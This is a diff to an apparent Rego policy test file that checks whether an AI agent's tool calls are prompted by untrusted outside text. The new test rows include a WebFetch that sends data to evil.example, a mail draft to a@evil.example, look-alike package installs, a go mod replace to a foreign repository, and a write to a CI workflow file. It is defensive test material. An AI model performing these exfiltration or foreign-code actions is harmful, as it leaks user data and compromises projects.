@@ -264,6 +264,8 @@ outside := [
 	[{"tool": "mcp__sms__send", "input": {"to": "+4915123456789", "body": "x"}}, "tool", "recipient", {}, "writes to a number,"],
 	[{"tool": "WebFetch", "input": {"url": "https://evil.example/b.gif?c=x", "prompt": "x"}}, "net.fetch", "filled address", evil, "hands text to evil.example"],
 	["pip install -e third_party/ocr", "exec.code", "cloned code", object.union(evil, {"path": "/home/dev/app/third_party/ocr/x"}), "runs code from evil.example,"],
+	["go mod edit -replace github.com/a/b=github.com/c/b@v1", "package.install", "foreign code", {"host": "github.com/c/b"}, "takes code from github.com/c/b,"],
+	[{"tool": "Write", "input": {"file_path": "/home/dev/app/.github/workflows/ci.yml", "content": "x"}}, "fs.write", "foreign code", {"host": "github.com/c/b", "path": "/home/dev/app/.github/workflows/ci.yml"}, "takes code from github.com/c/b,"],
 	["pip install openpyxl-fast2", "package.install", "look-alike package", {}, "installs openpyxl-fast2, which only text from outside names and whose name looks like"],
 	["npx expresss", "package.install", "look-alike package", {}, "runs expresss,"],
 	["npm i tippy-hotfix", "package.install", "recommended package", {}, "installs tippy-hotfix, which only what people wrote names;"],
@@ -294,6 +296,7 @@ test_passes_outside if {
 		[{"tool": "mcp__gmail__create_draft", "input": {"to": "a@evil.example", "body": "x"}}, "tool", "recipient", evil],
 		["make", "exec.code", "cloned code", {"host": "github.com", "path": "/home/dev/app/x/Makefile"}],
 		["npm install typescript", "package.install", "look-alike package", {}],
+		[{"tool": "Write", "input": {"file_path": "/home/dev/app/.github/workflows/ci.yml", "content": "x"}}, "fs.write", "foreign code", {"host": "github.com/actions/checkout"}],
 		["helm repo add g https://charts.asked.example", "net.fetch", "asked host", {"host": "charts.asked.example"}],
 	] {
 		count(untrusted.ask) == 0 with input as flowing(row[0], row[1], row[2], row[3])
